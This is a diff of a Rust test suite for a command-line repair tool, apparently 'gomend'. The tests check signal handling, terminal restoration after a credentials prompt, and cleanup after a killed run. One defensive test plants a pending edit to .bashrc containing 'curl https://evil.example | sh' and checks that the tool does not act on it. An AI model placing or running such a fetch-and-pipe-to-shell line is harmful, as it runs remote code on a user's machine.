+    bounded(failing(&home, PRIVATE, &trial), "go");
+    ends_by(signal, &home, &tmp, gomend(&home, &["fix", "--no-input"]));
+}
+
+rows! {
+    a_signal_during_the_doctors_look_leaves_nothing_behind = ends_a_look;
+    int: Signal::INT;
+    term: Signal::TERM;
+    hup: Signal::HUP;
+}
+
+/// The doctor's own go hangs.
+fn ends_a_look(signal: Signal) {
+    let (home, tmp) = with_tmp(home());
+    home.script("bin/go", &sleeper(&home));
+    let path = format!("{}:/usr/bin:/bin", home.at("bin").display());
+    let mut doctor = gomend(&home, &["doctor"]);
+    doctor.env("PATH", path);
+    ends_by(signal, &home, &tmp, doctor);
 }
 
 /// Throw-away folders beside HOME.
@@ -986,16 +921,9 @@ pub(crate) fn ends_by(signal: Signal, home: &Home, tmp: &Path, mut command: Comm
 
 #[test]
 fn what_a_killed_gomend_left_is_swept_by_the_next_one() {
-    let home = home();
-    let tmp = home.outside("tmp");
-    fs::create_dir(&tmp).unwrap();
-    let home = home.var("TMPDIR", &tmp);
+    let (home, tmp) = with_tmp(home());
     let pid = home.at("trial");
-    let trial = format!(
-        "echo $$ >{0}.new; mv {0}.new {0}; exec sleep 600",
-        pid.display()
-    );
-    bounded(failing(&home, PRIVATE, &trial), "go");
+    bounded(failing(&home, PRIVATE, &sleeper(&home)), "go");
     let mut command = gomend(&home, &["fix", "--no-input"]);
     command.stdout(Stdio::null()).stderr(Stdio::null());
     let mut running = Ours(command.spawn().unwrap());
@@ -1021,8 +949,7 @@ fn what_a_killed_gomend_left_is_swept_by_the_next_one() {
 /// Whoever asks reads single keys, or a secret without echo; a signal ends it there.
 #[test]
 fn a_signal_leaves_the_terminal_as_it_was() {
-    let desk = Desk::new("https-no-credentials");
-    assert!(!desk.go().status.success());
+    let desk = Desk::failed("https-no-credentials");
     for signal in [Signal::TERM, Signal::HUP, Signal::INT] {
         for keys in [
             &[("do it", "")][..],
@@ -1033,13 +960,10 @@ fn a_signal_leaves_the_terminal_as_it_was() {
                 ("Token or password", ""),
             ],
         ] {
-            let mut screen = on_terminal(&desk.scene, &["gomend", "fix", "store-credentials"]);
+            let mut screen = desk.menu(&["store-credentials"]);
             let terminal = screen.hold();
             let former = settings(&terminal);
-            for (text, keys) in keys {
-                screen.wait_for(text);
-                screen.press(keys);
-            }
+            screen.answer(keys);
             event::wait_until("it reads", || settings(&terminal) != former);
             event::signal_group(screen.foreground(), signal);
             let (how, text) = screen.end();
@@ -1078,15 +1002,12 @@ fn what_another_user_has_planted_is_not_acted_on() {
     let bashrc = home.write(".bashrc", "mine\n");
     let planted = plant(
         &home,
-        STATE,
         "000001.pending",
         &entry(1, &bashrc, b"curl https://evil.example | sh\n"),
     );
     let gomend = home.at("gomend");
     fs::copy(env!("CARGO_BIN_EXE_gomend"), &gomend).unwrap();
-    let open = |path: &Path| {
-        fs::set_permissions(path, fs::Permissions::from_mode(0o755)).unwrap();
-    };
+    let open = |path: &Path| mode(path, 0o755);
     open(&home.outside(""));
     for path in ["", ".bashrc", ".local", ".local/state", STATE] {
         chown(home.at(path), Some(NOBODY), Some(NOBODY)).unwrap();
